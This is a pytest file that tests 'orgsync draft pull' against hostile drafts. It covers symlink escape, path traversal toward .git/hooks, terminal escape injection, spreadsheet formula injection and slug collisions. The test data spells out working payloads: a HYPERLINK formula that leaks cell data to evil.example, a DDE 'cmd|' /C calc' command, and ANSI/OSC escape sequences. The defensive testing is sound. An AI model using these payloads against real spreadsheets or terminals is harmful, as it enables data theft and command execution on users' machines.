"""Hostile repositories and drafts against `orgsync draft pull`: the change file cannot be pointed outside the
repository by a symlink, a draft's name cannot choose where it is written, and names and values with control
characters or markup reach neither the terminal nor the file name."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import pytest
import yaml

from orgsync.commands.draft import DraftOptions, run_draft_pull
from orgsync.errors import EscapesRoot, ExitCode
from tests.support.draft_helpers import PROPERTIES, item_ids, seed_draft, small_tenant

UNITS = "unit_id,name,parent,budget,opened,active\nU1,Head Office,,1,2020-01-15,true\nU2,Finance,U1,2,2021-03-01,true\n"


def _query_repo(tmp_path: Path, monkeypatch):
    manifest = {
        "kind": "Dataset",
        "name": "Units",
        "type": "UNITS",
        "autoId": "unit_id",
        "labelId": "name",
        "properties": PROPERTIES,
        "items": {"sources": {"units": "../data/units.csv"}, "query": "SELECT * FROM units"},
    }
    t = small_tenant(
        tmp_path / "repo",
        tmp_path,
        monkeypatch,
        {"manifests/units.yaml": yaml.safe_dump(manifest), "data/units.csv": UNITS},
    )
    assert t.apply() == ExitCode.OK
    return t


def test_a_changes_symlink_out_of_the_repository_is_refused(tmp_path: Path, monkeypatch) -> None:
    t = _query_repo(tmp_path, monkeypatch)
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, t.root / "changes")
    seed_draft(
        t, "Units", "Plan", [{"_action": "update", "_id": item_ids(t, "Units", "unit_id")["U2"], "name": "F"}]
    )

    with pytest.raises(EscapesRoot):
        run_draft_pull(DraftOptions(root=t.root, name="Plan"), stdout=io.StringIO(), stderr=io.StringIO())

    assert list(outside.iterdir()) == []


def test_a_draft_name_chooses_neither_the_path_nor_the_terminal(tmp_path: Path, monkeypatch) -> None:
    t = _query_repo(tmp_path, monkeypatch)
    name = "../../.git/hooks/x\x1b]8;;http://evil\x07\nEvil"
    seed_draft(
        t,
        "Units",
        name,
        [{"_action": "update", "_id": item_ids(t, "Units", "unit_id")["U2"], "name": "F\x1b[2J"}],
    )
    out, err = io.StringIO(), io.StringIO()

    assert run_draft_pull(DraftOptions(root=t.root, name=name), stdout=out, stderr=err) == 0

    assert [p.name for p in (t.root / "changes").iterdir()] == ["git-hooks-x-8-http-evil-evil.csv"]
    assert not (t.root / ".git").exists()
    printed = out.getvalue() + err.getvalue()
    assert "\x1b" not in printed and "\x07" not in printed and "\\x1b" in printed
    assert "\nEvil" not in printed


def test_a_draft_value_cannot_run_as_a_formula_in_the_change_file(tmp_path: Path, monkeypatch) -> None:
    """A modeller's value `=HYPERLINK(...)` (or `@`, `+`, `-`, a tab) in the change file, which people open in
    a spreadsheet, starts with `'`; a plain negative number stays a number; the source file keeps the exact
    value (orgsync reads it back: see docs/drafts.md)."""
    t = _query_repo(tmp_path, monkeypatch)
    ids = item_ids(t, "Units", "unit_id")
    seed_draft(
        t,
        "Units",
        "Plan",
        [
            {"_action": "update", "_id": ids["U2"], "name": '=HYPERLINK("http://evil.example/?"&A1,"open")'},
            {"_action": "update", "_id": ids["U1"], "name": "@SUM(1+1)*cmd|' /C calc'!A0", "budget": -5},
            {"_action": "create", "unit_id": "+U9", "name": "-2+3", "parent": "-U1"},
        ],
    )

    assert (
        run_draft_pull(
            DraftOptions(root=t.root, name="Plan", include_sensitive=True),
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )
        == 0
    )

    assert (t.root / "changes" / "plan.csv").read_text() == (
        "key,label,property,before,after\n"
        'U2,Finance,name,Finance,"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"\n'
        "U1,Head Office,name,Head Office,'@SUM(1+1)*cmd|' /C calc'!A0\n"
        "U1,Head Office,budget,1,-5\n"
        "'+U9,'-2+3,unit_id,,'+U9\n"
        "'+U9,'-2+3,name,,'-2+3\n"
        "'+U9,'-2+3,parent,,'-U1\n"
    )


def test_drafts_named_without_latin_letters_or_alike_past_60_characters_never_share_a_branch(
    tmp_path: Path, monkeypatch
) -> None:
    """A modeller cannot take over another draft's branch and pull request (`orgsync/draft-<slug>`, force-moved)
    or change file by a name that makes the same slug: names with no latin letter, and names alike in their
    first 60 characters, get distinct slugs."""
    t = _query_repo(tmp_path, monkeypatch)
    u2 = item_ids(t, "Units", "unit_id")["U2"]
    long = "q3 " + "x" * 70
    names = {
        "Реорганизация": "Finance A",
        "組織再編": "Finance B",
        long + "1": "Finance C",
        long + "2": "Finance D",
    }
    slugs = []
    for name, value in names.items():
        seed_draft(t, "Units", name, [{"_action": "update", "_id": u2, "name": value}])
        out = io.StringIO()
        assert (
            run_draft_pull(DraftOptions(root=t.root, name=name, fmt="json"), stdout=out, stderr=io.StringIO())
            == 0
        )
        slugs.append(json.loads(out.getvalue())["slug"])

    assert slugs == [
        "draft-e138e295",
        "draft-f68063f4",
        "q3-" + "x" * 48 + "-462dd7bf",
        "q3-" + "x" * 48 + "-65e87f83",
    ]
    assert len(set(slugs)) == 4 and all(len(s) <= 60 for s in slugs)
    held = {p.name: p.read_text().splitlines()[1] for p in (t.root / "changes").iterdir()}
    assert sorted(held) == sorted(f"{s}.csv" for s in slugs)
    assert [held[f"{s}.csv"].rsplit(",", 1)[1] for s in slugs] == list(names.values())
